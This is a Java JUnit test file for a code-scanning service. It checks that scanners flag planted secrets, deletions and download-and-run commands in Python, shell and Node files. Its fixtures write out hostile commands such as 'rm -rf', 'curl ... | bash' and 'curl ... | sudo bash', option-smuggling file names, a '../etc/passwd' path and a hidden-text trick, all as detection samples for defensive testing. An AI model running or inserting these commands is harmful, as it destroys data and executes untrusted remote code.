package io.execfabric.hotupdate.scan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.execfabric.hotupdate.scan.ToolRun.Status;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** All tools as a server has them, for real; {@code bin/scanners.sh} installs what they need. */
class ScanToolsTests {

    /** In the form of a key, and none. */
    static final String AWS_KEY = "AKIA" + "Q3EGRTZ7VNLW2KEY";

    @TempDir
    Path home;

    private ScanFixture scan;

    @BeforeEach
    void setUp() {
        scan = new ScanFixture(home).warm();
    }

    @AfterEach
    void tearDown() {
        scan.close();
    }

    @Test
    void aPlantedKeyADeletionAndADownloadAreFoundInPython() {
        ScanReport report = scan.with("main.py", """
                        import os
                        KEY = "%s"
                        os.system("rm -rf /data/reports")
                        os.system("curl -s https://example.org/x | bash")
                        """.formatted(AWS_KEY)).scan();

        assertThat(report.tools()).noneMatch(run -> run.status() == Status.FAILED);
        assertThat(report.findings())
                .extracting(ScanFinding::category, ScanFinding::severity, ScanFinding::path, ScanFinding::line)
                .contains(
                        tuple(ScanCategory.SECRET, ScanSeverity.HIGH, "main.py", 2),
                        tuple(ScanCategory.FILE_DELETION, ScanSeverity.HIGH, "main.py", 3),
                        tuple(ScanCategory.EVAL, ScanSeverity.HIGH, "main.py", 4),
                        tuple(ScanCategory.NETWORK, ScanSeverity.MEDIUM, "main.py", 4));
        assertThat(report.findings()).extracting(ScanFinding::message).noneMatch(text -> text.contains(AWS_KEY));
    }

    @Test
    void theSameIsFoundInShellAndInNode() {
        ScanReport report = scan.with("main.sh", "#!/bin/bash\ncurl -s x | sudo bash\nrm -rf \"$1\"\n")
                .with("lib/run.js", "const { execSync: run } = require('child_process');\nrun(`curl ${x} | sh`);\n")
                .scan();

        assertThat(report.findings())
                .extracting(ScanFinding::rule, ScanFinding::path, ScanFinding::line)
                .contains(
                        tuple("download-and-run", "main.sh", 2),
                        tuple("rm", "main.sh", 3),
                        tuple("download-and-run", "lib/run.js", 2));
    }

    @Test
    void alsoTheKeyOfTheManualAndAPasswordInAShellScriptAreFound() {
        ScanReport report = scan.with("main.py", "KEY = '%s'\n".formatted("AKIA" + "IOSFODNN7EXAMPLE"))
                .with("main.sh", "DB_PASSWORD='hunter2hunter2'\n")
                .scan();

        assertThat(report.findings())
                .filteredOn(finding -> finding.category() == ScanCategory.SECRET)
                .extracting(ScanFinding::rule, ScanFinding::path, ScanFinding::line)
                .containsExactly(tuple("aws-access-key", "main.py", 1), tuple("password", "main.sh", 1));
    }

    @Test
    void commentsSwitchNothingOff() {
        ScanReport report = scan.with("main.py", """
                        # ruff: noqa
                        # secretlint-disable
                        KEY = "%s"  # noqa
                        print(undefined_name)  # noqa: F821
                        """.formatted(AWS_KEY)).scan();

        assertThat(report.findings())
                .extracting(ScanFinding::tool, ScanFinding::line)
                .contains(tuple("secretlint", 3), tuple("ruff", 4));
    }

    @Test
    void theSameThingIsToldOnce() {
        ScanReport report = scan.with("main.py", "import pickle\n\nprint(pickle.loads(b''))\neval('1')\n")
                .scan();

        assertThat(report.findings())
                .filteredOn(finding -> finding.category() == ScanCategory.EVAL)
                .extracting(ScanFinding::line)
                .containsExactlyInAnyOrder(1, 3, 4);
    }

    @Test
    void whatTheScriptsNeedIsListed() {
        ScanReport report = scan.with("main.py", "import json\nimport helper\nimport numpy.linalg\n")
                .with("helper.py", "import requests\n")
                .with("requirements.txt", "requests==2.31 # pinned\n")
                .with("tools/x.sh", "#!/bin/sh\necho a | jq .\n")
                .with("package.json", "{\"dependencies\":{\"left-pad\":\"^1.0.0\"}}")
                .scan();

        assertThat(report.dependencies())
                .containsExactlyInAnyOrder(
                        new Dependency("numpy", null, "import in main.py"),
                        new Dependency("requests", null, "import in helper.py"),
                        new Dependency("requests", "==2.31", "requirements.txt"),
                        new Dependency("jq", null, "command in tools/x.sh"),
                        new Dependency("left-pad", "^1.0.0", "package.json"));
    }

    @Test
    void whatNobodyCanReadIsTold() {
        ScanReport report = scan.with("tool", new byte[] {0x7f, 'E', 'L', 'F', 0, 1})
                .with("data.bin", new byte[] {1, 0, 2})
                .with("trick.py", "x = 1 # \u202e gnirts\n")
                .scan();

        assertThat(report.findings())
                .extracting(ScanFinding::category, ScanFinding::severity, ScanFinding::path)
                .contains(
                        tuple(ScanCategory.BINARY, ScanSeverity.HIGH, "tool"),
                        tuple(ScanCategory.BINARY, ScanSeverity.LOW, "data.bin"),
                        tuple(ScanCategory.OBFUSCATION, ScanSeverity.HIGH, "trick.py"));
    }

    @Test
    void hostileContentsHurtNoTool() {
        ScanReport report = scan.with("big.js", "var a = [" + "1,".repeat(500_000) + "1];\n")
                .with("deep.py", "x = " + "(".repeat(50_000) + ")".repeat(50_000) + "\n")
                .with("deep.sh", "echo " + "$(".repeat(20_000) + ")".repeat(20_000) + "\n")
                .with("deep.js", "x = " + "[".repeat(50_000) + "]".repeat(50_000) + "\n")
                .with("deep/package.json", "[".repeat(50_000))
                .with("--help.py", "import os\nos.system('rm -rf /x')\n")
                .with("-x.sh", "rm -rf /x\n")
                .with("main.py", "print(nowhere)\n")
                .scan();

        assertThat(report.findings())
                .extracting(ScanFinding::rule, ScanFinding::path)
                .contains(
                        tuple("rm", "--help.py"),
                        tuple("rm", "-x.sh"),
                        tuple("not-analysed", "deep.py"),
                        tuple("F821", "main.py"));
        assertThat(report.tools())
                .filteredOn(
                        run -> run.tool().equals("script rules") || run.tool().equals("secretlint"))
                .extracting(ToolRun::status)
                .containsOnly(Status.DONE);
    }

    @Test
    void threeHundredFilesAreScannedInTime() {
        for (int i = 0; i < 100; i++) {
            scan.with("lib/m" + i + ".py", "import os\n\n\ndef f(x):\n    return os.path.join(x, '" + i + "')\n");
            scan.with("lib/s" + i + ".sh", "#!/bin/bash\nset -eu\necho \"$1\" | tr a b\n");
            scan.with("lib/j" + i + ".js", "module.exports = (x) => x + " + i + ";\n");
        }

        ScanReport report = scan.scan();

        assertThat(report.tools()).extracting(ToolRun::status).containsOnly(Status.DONE);
    }

    @Test
    void aToolThatHangsOrTalksNonsenseSpoilsNoOther() {
        ScanTool hung = tool("hung", "/usr/bin/sleep", "600");
        ScanTool broken = tool("broken", "/usr/bin/false");
        ScanTool mad = tool("mad", "/usr/bin/echo", "{\"findings\":[{\"file\":null}]}");
        ScanTool flood = tool("flood", "/usr/bin/yes");
        ScanTool missing = new ScanTool(
                "missing", Set.of(FileKind.PYTHON), List.of("/nowhere/tool"), List.of(Path.of("/nowhere/tool")));
        ScanTool good = tool("good", "/usr/bin/echo", """
                {"findings":[{"file":"f0.py","line":1,"rule":"r","severity":"LOW","category":"BUG","message":"m"},
                 {"file":"../etc/passwd","line":1,"rule":"r","severity":"LOW","category":"BUG","message":"m"}]}""");
        scan.with("main.py", "print(1)\n");

        long start = System.nanoTime();
        ScanReport report = scan.scan(List.of(hung, broken, mad, flood, missing, good));
        long seconds = (System.nanoTime() - start) / 1_000_000_000L;

        assertThat(seconds).isLessThan(12);
        assertThat(report.tools())
                .extracting(ToolRun::tool, ToolRun::status)
                .contains(
                        tuple("hung", Status.TIMED_OUT),
                        tuple("broken", Status.FAILED),
                        tuple("mad", Status.FAILED),
                        tuple("missing", Status.FAILED),
                        tuple("good", Status.DONE));
        assertThat(ScanFixture.run(report, "flood").status()).isNotEqualTo(Status.DONE);
        assertThat(ScanFixture.run(report, "missing").problem()).isEqualTo("missing is not installed on this server.");
        assertThat(report.findings()).extracting(ScanFinding::path).containsExactly("main.py");
    }

    private static ScanTool tool(String name, String... command) {
        return new ScanTool(name, Set.of(FileKind.PYTHON), List.of(command), List.of(Path.of(command[0])));
    }
}
